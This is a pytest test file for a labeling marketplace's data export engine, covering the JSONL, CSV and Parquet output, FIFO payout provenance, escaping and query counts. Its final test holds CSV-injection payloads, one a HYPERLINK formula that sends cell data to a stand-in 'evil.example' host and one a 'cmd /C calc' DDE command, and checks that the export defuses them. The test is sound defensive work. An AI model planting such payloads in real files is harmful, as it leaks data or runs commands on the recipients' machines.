"""The export engine: every field of every record, the FIFO payout provenance, the three
formats holding the same records, and a number of queries per chunk that does not grow
with the project."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pyarrow.parquet as pq
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from labeling.models import Item, Submission
from marketplace.errors import ExportFormatUnknownError
from marketplace.services.exports import export_write, records
from marketplace.services.exports.writers import ANSWER_FIELDS, CSV_HEADER, ITEM_FIELDS
from payouts.models import Payout
from tests.factories import earnings_give
from tests.marketplace.export_helpers import answer, contributor, funded_project, payout

pytestmark = pytest.mark.django_db

R = 5 * 10**22  # ProjectFactory's reward: 0.05 NEAR


@pytest.fixture(autouse=True)
def _no_auto_payouts(settings) -> None:
    settings.AUTO_PAYOUT_NEAR = ""


def _export(project, fmt: str, **kwargs) -> tuple[bytes, object]:
    out = io.BytesIO()
    stats = export_write(project=project, format=fmt, out=out, **kwargs)
    return out.getvalue(), stats


def _when(value: str | None) -> datetime | None:
    return None if value is None else datetime.fromisoformat(value)


def _jsonl(body: bytes) -> list[dict]:
    # JSON Lines end at "\n" only (str.splitlines would also split at U+2028).
    rows = [json.loads(line) for line in body.split(b"\n") if line]
    for row in rows:
        for a in row["answers"]:
            a["submitted_at"] = _when(a["submitted_at"])
            a["decided_at"] = _when(a["decided_at"])
    return rows


def _json_or_none(text: str) -> object:
    return None if text == "" else json.loads(text)


def _csv(body: bytes) -> list[dict]:
    reader = csv.reader(io.StringIO(body.decode()))
    assert tuple(next(reader)) == CSV_HEADER
    items: dict[str, dict] = {}
    for row in reader:
        cells = dict(zip(CSV_HEADER, row, strict=True))
        item = items.setdefault(
            cells["item_id"],
            {
                "id": cells["item_id"],
                "external_id": cells["external_id"] or None,
                "data": json.loads(cells["data"]),
                "status": cells["status"],
                "gold": {"true": True, "false": False}[cells["gold"]],
                "gold_answer": _json_or_none(cells["gold_answer"]),
                "final_answer": _json_or_none(cells["final_answer"]),
                "confidence": float(cells["confidence"]) if cells["confidence"] else None,
                "answers": [],
            },
        )
        if not cells["answer_id"]:
            assert all(cells[name] == "" for name in ANSWER_FIELDS[1:])
            continue
        item["answers"].append(
            {
                "id": cells["answer_id"],
                "answer": json.loads(cells["answer"]),
                "contributor_near_account": cells["contributor_near_account"] or None,
                "submitted_at": _when(cells["submitted_at"]),
                "time_on_task_ms": int(cells["time_on_task_ms"])
                if cells["time_on_task_ms"]
                else None,
                "decision": cells["decision"],
                "decision_reason": cells["decision_reason"] or None,
                "decided_at": _when(cells["decided_at"] or None),
                "score": float(cells["score"]) if cells["score"] else None,
                "score_parts": _json_or_none(cells["score_parts"]),
                "payout_tx_hash": cells["payout_tx_hash"] or None,
                "payout_status": cells["payout_status"] or None,
            }
        )
    return list(items.values())


def _parquet(body: bytes) -> list[dict]:
    table = pq.read_table(io.BytesIO(body))
    assert table.column_names == [*ITEM_FIELDS, "answers"]
    rows = table.to_pylist()
    for row in rows:
        for name in ("data", "gold_answer", "final_answer"):
            row[name] = None if row[name] is None else json.loads(row[name])
        for a in row["answers"]:
            a["answer"] = json.loads(a["answer"])
            a["score_parts"] = None if a["score_parts"] is None else json.loads(a["score_parts"])
    return rows


@pytest.fixture
def scene():
    """Alice's four accepted answers and an unrelated credit, paid FIFO by a partial
    payout, a failed one, a confirmed one and a submitted one; Bob's rejected and
    in-review answers (no NEAR account); Carol's accepted unpaid answer; an item with
    no answer; a gold item."""
    project = funded_project(items=5)
    items = list(Item.objects.filter(project=project).order_by("pk"))
    Item.objects.filter(pk=items[2].pk).update(
        is_gold=True, gold_answer={"label": "dog"}, external_id="row-3"
    )
    Item.objects.filter(pk=items[0].pk).update(
        status=Item.Status.RESOLVED, final_answer={"label": "cat"}, confidence=0.96875
    )
    alice, bob, carol = contributor("alice"), contributor("bob", near=False), contributor("carol")
    a1 = answer(items[0], alice, parts={"agreement": 0.5, "gold": None, "model": 0.25})
    earnings_give(alice, R // 2)  # another project's credit, between a1 and a2
    a2 = answer(items[1], alice)
    a3 = answer(items[2], alice, label="dog")
    a4 = answer(items[3], alice)
    b1 = answer(items[0], bob, status="rejected", score=0.125, reason="Below the threshold.")
    b2 = answer(items[1], bob, status="review", score=0.375)
    c1 = answer(items[1], carol)
    # Cumulative credits: a1 R, other 1.5R, a2 2.5R, a3 3.5R, a4 4.5R.
    pay_a = payout(alice, 2 * R, Payout.Status.CONFIRMED, "txA")  # a1 (and the other)
    payout(alice, R, Payout.Status.FAILED, "txF")  # refunded: pays nothing
    pay_b = payout(alice, R, Payout.Status.CONFIRMED, "txB")  # completes a2 (2.5R <= 3R)
    pay_c = payout(alice, R, Payout.Status.SUBMITTED, "txC")  # a3 (3.5R <= 4R)
    # a4 (4.5R) is unpaid.
    return {
        "project": project,
        "items": items,
        "answers": {"a1": a1, "a2": a2, "a3": a3, "a4": a4, "b1": b1, "b2": b2, "c1": c1},
        "payouts": (pay_a, pay_b, pay_c),
    }


def test_every_field_of_every_record(scene) -> None:
    body, stats = _export(scene["project"], "jsonl")
    rows = _jsonl(body)
    items = [Item.objects.get(pk=i.pk) for i in scene["items"]]
    assert [r["id"] for r in rows] == [str(i.public_id) for i in items]
    assert stats.items == 5
    assert stats.answers == 7
    first = rows[0]
    assert {k: v for k, v in first.items() if k != "answers"} == {
        "id": str(items[0].public_id),
        "external_id": None,
        "data": items[0].data,
        "status": "resolved",
        "gold": False,
        "gold_answer": None,
        "final_answer": {"label": "cat"},
        "confidence": 0.96875,
    }
    assert rows[2]["gold"] is True
    assert rows[2]["gold_answer"] == {"label": "dog"}
    assert rows[2]["external_id"] == "row-3"
    assert rows[4]["answers"] == []

    a1 = Submission.objects.get(pk=scene["answers"]["a1"].pk)
    b1 = Submission.objects.get(pk=scene["answers"]["b1"].pk)
    assert first["answers"] == [
        {
            "id": str(a1.public_id),
            "answer": {"label": "cat"},
            "contributor_near_account": "alice.test.near",
            "submitted_at": a1.created_at,
            "time_on_task_ms": 1234,
            "decision": "accepted",
            "decision_reason": None,
            "decided_at": a1.decided_at,
            "score": 0.875,
            "score_parts": {"agreement": 0.5, "gold": None, "model": 0.25},
            "payout_tx_hash": "txA",
            "payout_status": "confirmed",
        },
        {
            "id": str(b1.public_id),
            "answer": {"label": "cat"},
            "contributor_near_account": None,
            "submitted_at": b1.created_at,
            "time_on_task_ms": 1234,
            "decision": "rejected",
            "decision_reason": "Below the threshold.",
            "decided_at": b1.decided_at,
            "score": 0.125,
            "score_parts": {"agreement": 0.75, "gold": None},
            "payout_tx_hash": None,
            "payout_status": None,
        },
    ]
    assert body.endswith(b"\n")
    assert body.count(b"\n") == 5
    assert first["answers"][0]["submitted_at"].utcoffset().total_seconds() == 0


def test_payout_provenance_is_fifo_over_the_earnings(scene) -> None:
    rows = _jsonl(_export(scene["project"], "jsonl")[0])
    by_id = {a["id"]: a for r in rows for a in r["answers"]}

    def paid(name: str) -> tuple:
        a = by_id[str(scene["answers"][name].public_id)]
        return a["payout_tx_hash"], a["payout_status"], a["decision"]

    assert paid("a1") == ("txA", "confirmed", "accepted")
    # Partly paid by A (2R of 2.5R), completed by B: the failed payout in between
    # and its refund count for nothing.
    assert paid("a2") == ("txB", "confirmed", "accepted")
    # Paid by a payout not yet confirmed: its status, no hash yet.
    assert paid("a3") == (None, "submitted", "accepted")
    assert paid("a4") == (None, None, "accepted")  # not withdrawn yet
    assert paid("b1") == (None, None, "rejected")
    assert paid("b2") == (None, None, "review")
    assert by_id[str(scene["answers"]["b2"].public_id)]["decided_at"] is None
    assert paid("c1") == (None, None, "accepted")  # Carol has no payout


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_an_accepted_answer_without_its_link_is_found_by_its_journal(scene, fmt) -> None:
    """The earning's line comes from the submission's link; one without it (credited
    before the link existed and not backfilled) is found by its journal key: the same
    file either way."""
    linked = _export(scene["project"], fmt)[0]
    a2 = scene["answers"]["a2"]
    Submission.objects.filter(pk=a2.pk).update(earning_line=None)
    assert _export(scene["project"], fmt)[0] == linked
    Submission.objects.filter(assignment__project=scene["project"]).update(earning_line=None)
    assert _export(scene["project"], fmt)[0] == linked


def test_the_link_is_what_the_export_reads(scene) -> None:
    """The payout is found from the submission's link, not its journal key: pointing a1
    at a4's earning gives a1 a4's payout (nothing), a4 keeping its own."""
    a1, a4 = scene["answers"]["a1"], scene["answers"]["a4"]
    Submission.objects.filter(pk=a1.pk).update(
        earning_line=Submission.objects.get(pk=a4.pk).earning_line
    )
    rows = _jsonl(_export(scene["project"], "jsonl")[0])
    by_id = {a["id"]: a for r in rows for a in r["answers"]}
    assert by_id[str(a1.public_id)]["payout_status"] is None
    assert by_id[str(a4.public_id)]["payout_status"] is None


def test_a_payout_that_ends_exactly_on_a_credit_pays_it_whole(scene) -> None:
    # Alice withdraws exactly the rest of a4: 4.5R consumed, a4 paid by this payout.
    payout(scene["answers"]["a4"].assignment.contributor, R // 2, Payout.Status.PENDING)
    rows = _jsonl(_export(scene["project"], "jsonl")[0])
    a4 = next(
        a for r in rows for a in r["answers"] if a["id"] == str(scene["answers"]["a4"].public_id)
    )
    assert (a4["payout_tx_hash"], a4["payout_status"]) == (None, "pending")


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_the_formats_hold_the_same_records(scene, fmt) -> None:
    expected = _jsonl(_export(scene["project"], "jsonl")[0])
    body, stats = _export(scene["project"], fmt)
    got = _csv(body) if fmt == "csv" else _parquet(body)
    assert got == expected
    assert (stats.items, stats.answers, stats.format) == (5, 7, fmt)


def test_stats_hash_the_bytes_written(scene) -> None:
    import hashlib

    for fmt in ("jsonl", "csv", "parquet"):
        body, stats = _export(scene["project"], fmt)
        assert stats.size == len(body)
        assert stats.sha256 == hashlib.sha256(body).hexdigest()


def test_items_through_pins_the_export_and_progress_is_told(scene, monkeypatch) -> None:
    monkeypatch.setattr(records, "CHUNK", 2)
    calls = []
    through = scene["items"][2].pk
    body, stats = _export(
        scene["project"],
        "jsonl",
        item_ids_through=through,
        progress=lambda d, t: calls.append((d, t)),
    )
    assert stats.items == 3
    assert len(body.splitlines()) == 3
    assert calls == [(0, 3), (2, 3), (3, 3)]


def test_an_unknown_format_is_refused() -> None:
    project = funded_project(items=1)
    with pytest.raises(ExportFormatUnknownError):
        _export(project, "xml")


def _queries(project, fmt: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        _export(project, fmt)
    return len(captured.captured_queries)


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_queries_per_chunk_do_not_grow_with_items_or_answers(fmt, monkeypatch) -> None:
    """Constant memory: two queries per chunk of CHUNK items, whatever they hold."""
    monkeypatch.setattr(records, "CHUNK", 3)
    alice, bob, carol = contributor("alice"), contributor("bob"), contributor("carol")
    small = funded_project(items=6)  # 2 chunks
    big = funded_project(items=12)  # 4 chunks
    for project, people in ((small, [alice]), (big, [alice, bob, carol])):
        for item in Item.objects.filter(project=project):
            for person in people:
                answer(item, person)
    payout(alice, R, Payout.Status.CONFIRMED, "tx1")
    payout(alice, R, Payout.Status.CONFIRMED, "tx2")
    base = _queries(small, fmt)
    assert _queries(big, fmt) == base + 2 * 2  # two more chunks, two queries each
    # Three times the answers per item in the same number of chunks: no more queries.
    wide = funded_project(items=6)
    for item in Item.objects.filter(project=wide):
        for person in (alice, bob, carol):
            answer(item, person)
    assert _queries(wide, fmt) == base


def test_the_database_builds_the_same_jsonl_as_the_writer(scene, monkeypatch) -> None:
    """PostgreSQL's fast path (json_build_object) and the generic writer agree."""
    from marketplace.services.exports import writers

    fast = _jsonl(_export(scene["project"], "jsonl")[0])
    out = io.BytesIO()
    writer = writers.JsonlWriter(out)
    _, through = records.items_bounds(project_id=scene["project"].pk, through=None)
    for chunk in records.chunks(project_id=scene["project"].pk, through=through):
        writer.chunk(chunk)
    assert _jsonl(out.getvalue()) == fast


def test_text_the_database_writes_is_escaped_as_json(scene) -> None:
    """The JSON the database spells out (quotes, backslashes, control characters,
    non-ASCII, floats) reads back as what was stored, and as the writer
    writes it."""
    from marketplace.services.exports import writers

    hostile = 'say "no" \\ back\nslash\t\u2028 \u00e9t\u00e9 \U0001f600 </script>'
    items = scene["items"]
    Item.objects.filter(pk=items[0].pk).update(
        external_id=hostile, data={"t": hostile, "n": [1.5, 2]}, confidence=1e-300
    )
    b1 = scene["answers"]["b1"]
    Submission.objects.filter(pk=b1.pk).update(
        decision_reason=hostile, answer={"label": hostile}, score=0.1 + 0.2
    )
    rows = _jsonl(_export(scene["project"], "jsonl")[0])
    assert rows[0]["external_id"] == hostile
    assert rows[0]["data"] == {"t": hostile, "n": [1.5, 2]}
    assert rows[0]["confidence"] == 1e-300
    b1_row = next(a for a in rows[0]["answers"] if a["id"] == str(b1.public_id))
    assert b1_row["decision_reason"] == hostile
    assert b1_row["answer"] == {"label": hostile}
    assert b1_row["score"] == 0.1 + 0.2
    out = io.BytesIO()
    writer = writers.JsonlWriter(out)
    _, through = records.items_bounds(project_id=scene["project"].pk, through=None)
    for chunk in records.chunks(project_id=scene["project"].pk, through=through):
        writer.chunk(chunk)
    assert _jsonl(out.getvalue()) == rows


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_timestamps_are_utc_whatever_the_sessions_time_zone(scene, fmt) -> None:
    """PostgreSQL's timestamps are read from its text by datetime.fromisoformat; in a
    session set to another zone they still come out as the same instants in UTC."""
    expected = _export(scene["project"], fmt)[0]
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute("SET TIME ZONE 'Asia/Kolkata'")
        try:
            assert _export(scene["project"], fmt)[0] == expected
        finally:
            with connection.cursor() as cursor:
                cursor.execute("SET TIME ZONE 'UTC'")
    rows = _csv(expected) if fmt == "csv" else _parquet(expected)
    a1 = Submission.objects.get(pk=scene["answers"]["a1"].pk)
    got = next(a for r in rows for a in r["answers"] if a["id"] == str(a1.public_id))
    assert got["submitted_at"] == a1.created_at
    assert got["submitted_at"].utcoffset().total_seconds() == 0


@pytest.mark.django_db(transaction=True)
def test_the_answers_read_ahead_by_threads_are_the_same_records(monkeypatch) -> None:
    """PostgreSQL outside a transaction: worker threads read answers ahead, each with
    its own connection, closed at the end; the file is the same as read in order."""
    import threading

    if connection.vendor != "postgresql":
        pytest.skip("the read-ahead is PostgreSQL's")
    monkeypatch.setattr(records, "CHUNK", 2)
    alice, bob = contributor("alice"), contributor("bob")
    project = funded_project(items=9)
    for item in Item.objects.filter(project=project):
        answer(item, alice)
        answer(item, bob, status="rejected", score=0.1)
    payout(alice, 3 * R, Payout.Status.CONFIRMED, "txR")
    before = threading.active_count()
    for fmt in ("jsonl", "csv", "parquet"):
        parallel, stats = _export(project, fmt)
        monkeypatch.setattr(records, "WORKERS", 0)
        serial, _ = _export(project, fmt)
        monkeypatch.setattr(records, "WORKERS", 2)
        assert parallel == serial
        assert stats.items == 9
    assert threading.active_count() == before
    # The workers' connections are closed; their server processes end a moment later
    # (a busy machine may list them for a little while).
    import time

    deadline = time.monotonic() + 10
    while True:
        with connection.cursor() as cursor:
            cursor.execute(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
                " AND pid <> pg_backend_pid() AND backend_type = 'client backend'"
            )
            left = cursor.fetchone()[0]
        if left == 0 or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    assert left == 0


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12", "-12"),  # a plain number is only a number
        ("+1.5e3", "+1.5e3"),
        ("a=b", "a=b"),
    ],
)
def test_csv_defuses_free_text_a_spreadsheet_would_run(text, cell) -> None:
    """OWASP "CSV injection": the requester's external ids and a reviewer's reasons are
    someone's words; in the CSV (not in JSONL or Parquet) one that opens as a formula
    gets a leading quote."""
    project = funded_project(items=1)
    item = Item.objects.get(project=project)
    item.external_id = text
    item.save(update_fields=["external_id"])
    answer(item, contributor("alice"), reason=text)
    rows = list(csv.DictReader(io.StringIO(_export(project, "csv")[0].decode())))
    assert [(r["external_id"], r["decision_reason"]) for r in rows] == [(cell, cell)]
    jsonl = _jsonl(_export(project, "jsonl")[0])
    assert jsonl[0]["external_id"] == (text or None)
    assert jsonl[0]["answers"][0]["decision_reason"] == text
